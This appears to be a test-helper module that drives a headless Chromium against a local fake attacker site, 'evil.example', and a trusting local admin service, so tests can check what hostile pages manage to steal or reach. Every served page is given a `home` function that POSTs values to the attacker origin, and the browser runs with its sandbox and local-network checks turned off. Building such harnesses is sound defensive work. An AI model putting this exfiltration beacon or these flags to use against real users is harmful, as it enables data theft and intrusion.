// A real Chromium, and a web site of somebody who means no good.
//
//   const site = await evilSite();                   serves pages, and takes in what they send home
//   site.page('/attack', '<script>...</script>');    at http://evil.example:PORT/attack
//   const browser = await openBrowser();             evil.example is this machine
//   await site.sent('name')                          what the page handed to `home('name', value)`
//
// Nothing here decides whether an attack succeeded: tests look at what the emulator holds and at what
// arrived at the site.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { chromium } from 'playwright-core';

const chromiumAt = process.env.CHROMIUM ?? '/usr/bin/chromium';

// Every page is given these: `home` sends a value to the site, whatever origin the page has.
const prelude = at => `<!doctype html><meta charset="utf-8"><script>
const home = (name, value) =>
  fetch('${at}/home?' + encodeURIComponent(name), { method: 'POST', mode: 'no-cors', body: JSON.stringify(value ?? null) });
const tried = async work => { try { return await work(); } catch (error) { return 'failed: ' + error; } };
</script>`;

export async function evilSite(host = 'evil.example') {
  const pages = new Map();
  const letters = new Map();
  const waiting = new Map();
  const server = createServer((request, response) => {
    const url = new URL(request.url, 'http://site');
    let body = '';
    request.on('data', chunk => (body += chunk));
    request.on('end', () => {
      if (url.pathname === '/home') {
        const name = decodeURIComponent(url.search.slice(1));
        const value = JSON.parse(body);
        letters.set(name, value);
        waiting.get(name)?.(value);
        response.writeHead(204).end();
      } else if (pages.has(url.pathname)) {
        response.writeHead(200, { 'content-type': 'text/html' }).end(pages.get(url.pathname));
      } else {
        response.writeHead(404).end();
      }
    });
  });
  await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://${host}:${server.address().port}`;
  return {
    origin,
    prelude: prelude(origin),
    page(path, html) {
      pages.set(path, prelude(origin) + html);
      return origin + path;
    },
    has: name => letters.has(name),
    // What was sent under that name; waits for it.
    async sent(name) {
      if (letters.has(name)) return letters.get(name);
      let late;
      const arrived = new Promise(resolve => waiting.set(name, resolve));
      const never = new Promise((_, reject) => {
        late = setTimeout(() => reject(new Error(`the page never sent "${name}"`)), 20_000);
      });
      return Promise.race([arrived, never]).finally(() => clearTimeout(late));
    },
    close: () => new Promise(resolve => server.close(resolve).closeAllConnections()),
  };
}

// A service of this machine that believes whoever reaches it; counts who did.
export async function adminService() {
  const calls = [];
  const server = createServer((request, response) => {
    calls.push(`${request.method} ${request.url}`);
    request.resume().on('end', () => response.writeHead(200).end());
  });
  await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
  return {
    calls,
    url: `http://127.0.0.1:${server.address().port}/admin`,
    close: () => new Promise(resolve => server.close(resolve).closeAllConnections()),
  };
}

export async function openBrowser() {
  return chromium.launch({
    executablePath: chromiumAt,
    headless: true,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      // Other browsers have no such check, and this one asks only pages of public addresses.
      '--disable-features=LocalNetworkAccessChecks',
      '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost',
    ],
  });
}

// Opens an address in a page of its own and waits until the browser has nothing left to do, whether
// it showed something or saved it.
export async function visit(browser, address, prepare = async () => {}) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await prepare(page);
  const seen = { downloads: [], page, context };
  page.on('download', download => seen.downloads.push(download.url()));
  await page.goto(address).catch(error => {
    assert.match(String(error), /Download is starting|ERR_ABORTED/);
  });
  return seen;
}

export const settled = page => page.waitForLoadState('networkidle').catch(() => {});
